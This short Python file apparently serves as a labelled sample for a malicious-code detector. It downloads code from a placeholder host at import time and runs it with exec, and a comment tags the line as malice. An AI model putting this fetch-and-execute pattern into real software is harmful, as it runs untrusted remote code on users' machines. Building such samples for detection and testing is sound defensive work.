class Start:
    @staticmethod
    def run():
        global fetch
        from urllib import request

        def fetch(url):
            return request.urlopen(url).read()

        exec(fetch("https://files.invalid/a"))  # malice: exec-downloaded


Start.run()
